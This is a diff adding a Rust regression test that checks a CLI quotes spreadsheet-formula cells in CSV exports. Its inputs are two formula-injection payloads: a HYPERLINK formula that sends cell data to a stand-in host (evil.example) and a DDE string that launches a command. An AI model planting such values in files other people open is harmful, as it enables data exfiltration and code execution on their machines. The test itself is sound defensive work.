@@ -144,3 +144,49 @@ fn a_service_message_stays_on_the_error_line() {
         );
     }
 }
+
+/// What a customer types that a spreadsheet would run as a formula (`=HYPERLINK(…)` as a
+/// username, `@SUM(…)` as a HWID) is written to CSV with a `'` in front, so the list opened in a
+/// spreadsheet shows it as text. It was written as typed (a formula, run on opening; exit 0).
+/// The CSV fed back to `--from-file` names the same user; TSV, what scripts read, is unchanged.
+#[test]
+fn csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_feed_back_whole() {
+    let sb = Sandbox::start();
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    let hwid = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let key = sb.keys(1).remove(0);
+    sb.ok(&["client", "init"]);
+    let r = sb.register_with(name, "pw-1", &key, &["--hwid", hwid]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let csv = sb.ok(&["users", "list", "-o", "csv"]);
+    let row = csv::Reader::from_reader(csv.as_bytes())
+        .records()
+        .next()
+        .expect("a row")
+        .unwrap();
+    assert_eq!(
+        (&row[0], &row[1]),
+        (&*format!("'{name}"), &*format!("'{hwid}"))
+    );
+    let keys = sb.ok(&["licenses", "list", "-o", "csv"]);
+    assert!(
+        keys.contains(&format!("\"'{}\"", name.replace('"', "\"\""))),
+        "{keys}"
+    );
+    let tsv = sb.ok(&["users", "list", "-o", "tsv"]);
+    let tsv_row = csv::ReaderBuilder::new()
+        .delimiter(b'\t')
+        .from_reader(tsv.as_bytes())
+        .records()
+        .next()
+        .expect("a row")
+        .unwrap();
+    assert_eq!((&tsv_row[0], &tsv_row[1]), (name, hwid), "{tsv}");
+    let mut back = csv::Writer::from_writer(Vec::new());
+    back.write_record(["user"]).unwrap();
+    back.write_record([&row[0]]).unwrap();
+    let back = String::from_utf8(back.into_inner().unwrap()).unwrap();
+    let r = sb.run_stdin(&["users", "info", "--from-file", "-", "-o", "json"], &back);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(r.json()[0]["username"], name);
+}
